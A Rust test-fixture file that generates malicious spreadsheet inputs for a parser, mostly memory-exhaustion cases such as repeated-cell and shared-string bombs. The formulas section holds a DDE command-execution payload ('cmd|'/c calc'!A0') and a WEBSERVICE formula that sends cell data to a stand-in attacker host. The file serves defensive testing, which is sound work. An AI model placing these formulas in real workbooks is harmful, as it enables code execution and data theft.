//! Workbooks that are small as files and large in memory, or that would compute.

use super::Expected::{Answered, Refused, Taken};
use super::Shelf;
use super::office::{cell, ods, row, small_sheet, table, xlsx};

pub(super) fn fill(shelf: &mut Shelf) {
    sizes(shelf);
    shared_texts(shelf);
    formulas(shelf);
    broken_places(shelf);
    open_documents(shelf);
}

fn sizes(shelf: &mut Shelf) {
    let all = "<dimension ref=\"A1:XFD1048576\"/>";
    shelf.put(
        Taken,
        "wide.xlsx",
        "17 milliard cells declared, two written",
        xlsx("", &format!("{all}{}", small_sheet()), "", &[]),
    );
    let corner = format!(
        "<sheetData><row r=\"1\">{}</row><row r=\"1048576\">{}</row></sheetData>",
        cell("A1", "words"),
        cell("XFD1048576", "x")
    );
    shelf.put(
        Refused("too-much"),
        "corner.xlsx",
        "one cell in the last corner",
        xlsx("", &corner, "", &[]),
    );
    let diagonal: String = (1..=4_000)
        .map(|n| format!("<row r=\"{n}\">{}</row>", cell(&place(n, n), "x")))
        .collect();
    shelf.put(
        Refused("too-much"),
        "diagonal.xlsx",
        "4,000 cells on a diagonal",
        xlsx("", &format!("<sheetData>{diagonal}</sheetData>"), "", &[]),
    );
    let merged = format!(
        "{}<mergeCells><mergeCell ref=\"A1:XFD1048576\"/></mergeCells>",
        small_sheet()
    );
    shelf.put(
        Answered,
        "merged.xlsx",
        "one cell over the whole sheet",
        xlsx("", &merged, "", &[]),
    );
    let sheets: String = (0..5_000)
        .map(|n| format!("<sheet name=\"s{n}\" sheetId=\"{n}\" r:id=\"rId1\"/>"))
        .collect();
    let book = format!(
        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>{sheets}</sheets></workbook>"
    );
    shelf.put(
        Answered,
        "sheets.xlsx",
        "5,000 sheets that are one",
        xlsx(
            "",
            &small_sheet(),
            "",
            &[("xl/workbook.xml", book.as_bytes())],
        ),
    );
}

fn shared_texts(shelf: &mut Shelf) {
    let cells: String = (1..=50_000)
        .map(|n| format!("<row r=\"{n}\"><c r=\"A{n}\" t=\"s\"><v>0</v></c></row>"))
        .collect();
    let sheet = format!("<sheetData>{cells}</sheetData>");
    let long = "a".repeat(1 << 20);
    shelf.put(
        Refused("too-hard|too-much"),
        "shared.xlsx",
        "one shared MiB in 50,000 cells: 50 GB",
        xlsx("", &sheet, &format!("<si><t>{long}</t></si>"), &[]),
    );
    let many = "<si><t/></si>".repeat(1_000_000);
    shelf.put(
        Answered,
        "shared.xlsx",
        "a million shared texts of nothing",
        xlsx("", &small_sheet(), &many, &[]),
    );
    let runs = "<r><t>a</t></r>".repeat(300_000);
    let one = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row><row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row></sheetData>";
    shelf.put(
        Answered,
        "runs.xlsx",
        "a shared text of 300,000 runs",
        xlsx("", one, &format!("<si>{runs}</si>"), &[]),
    );
    for (what, index) in [
        ("behind the last", "7"),
        ("below nought", "-1"),
        ("beyond counting", "99999999999999999999"),
    ] {
        let sheet = format!(
            "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>{index}</v></c></row></sheetData>"
        );
        shelf.put(
            Answered,
            "index.xlsx",
            format!("a shared text {what}"),
            xlsx("", &sheet, "<si><t>words</t></si>", &[]),
        );
    }
}

fn formulas(shelf: &mut Shelf) {
    for (what, formula) in [
        ("starts a program", "cmd|'/c calc'!A0"),
        (
            "asks an address",
            "WEBSERVICE(\"http://attacker.invalid/\"&amp;A1)",
        ),
        ("computes for ever", "A2"),
    ] {
        let sheet = format!(
            "<sheetData><row r=\"1\">{}</row><row r=\"2\"><c r=\"A2\" t=\"str\"><f>{formula}</f><v>kept value</v></c></row></sheetData>",
            cell("A1", "words")
        );
        shelf.put(
            Taken,
            "formula.xlsx",
            format!("a formula that {what}"),
            xlsx("", &sheet, "", &[]),
        );
    }
    let links = b"<externalLink/>";
    shelf.put(
        Taken,
        "links.xlsx",
        "another workbook linked",
        xlsx(
            "",
            &small_sheet(),
            "",
            &[("xl/externalLinks/externalLink1.xml", links)],
        ),
    );
}

fn broken_places(shelf: &mut Shelf) {
    for place in ["A0", "AAAAAAAAAAAAAA1", "A99999999999999999999", "1A", ""] {
        let sheet = format!(
            "<sheetData><row r=\"1\">{}{}</row></sheetData>",
            cell("A1", "words"),
            cell(place, "x")
        );
        shelf.put(
            Answered,
            "place.xlsx",
            format!("a cell at \"{place}\""),
            xlsx("", &sheet, "", &[]),
        );
    }
    let numbers = "<sheetData><row r=\"1\"><c r=\"A1\"><v>1e308</v></c><c r=\"B1\"><v>NaN</v></c><c r=\"C1\"><v>-1e999</v></c></row><row r=\"2\"><c r=\"A2\" t=\"d\"><v>99999-99-99T99</v></c></row></sheetData>";
    shelf.put(
        Answered,
        "numbers.xlsx",
        "numbers beyond all numbers",
        xlsx("", numbers, "", &[]),
    );
}

fn open_documents(shelf: &mut Shelf) {
    let repeated = |rows: u64, columns: u64, text: &str| {
        format!(
            "<table:table-row table:number-rows-repeated=\"{rows}\"><table:table-cell table:number-columns-repeated=\"{columns}\"><text:p>{text}</text:p></table:table-cell></table:table-row>"
        )
    };
    shelf.put(
        Refused("too-much"),
        "repeat.ods",
        "one cell repeated over the sheet",
        ods("", &table(&repeated(1_048_576, 16_384, "x"))),
    );
    shelf.put(
        Refused("too-much|broken-part"),
        "repeat.ods",
        "one cell repeated beyond counting",
        ods("", &table(&repeated(u64::MAX, u64::MAX, "x"))),
    );
    shelf.put(
        Refused("too-much|too-hard"),
        "long.ods",
        "100 kB repeated 100,000 times",
        ods("", &table(&repeated(100_000, 1, &"a".repeat(100_000)))),
    );
    let blank = format!(
        "{}{}{}",
        row("words"),
        row("x"),
        repeated(1_048_000, 16_384, "")
    );
    shelf.put(
        Taken,
        "blank.ods",
        "an empty sheet below two rows",
        ods("", &table(&blank)),
    );
    let spaces = row("words<text:s text:c=\"4000000000\"/>x");
    shelf.put(
        Refused("too-much|too-hard|broken-part"),
        "spaces.ods",
        "four milliard blanks in a cell",
        ods("", &table(&spaces)),
    );
}

/// The place of a cell, from 1.
fn place(row: usize, column: usize) -> String {
    let mut letters = Vec::new();
    let mut left = column;
    while left > 0 {
        letters.push(char::from(b'A' + ((left - 1) % 26) as u8));
        left = (left - 1) / 26;
    }
    letters.reverse();
    format!("{}{row}", letters.into_iter().collect::<String>())
}
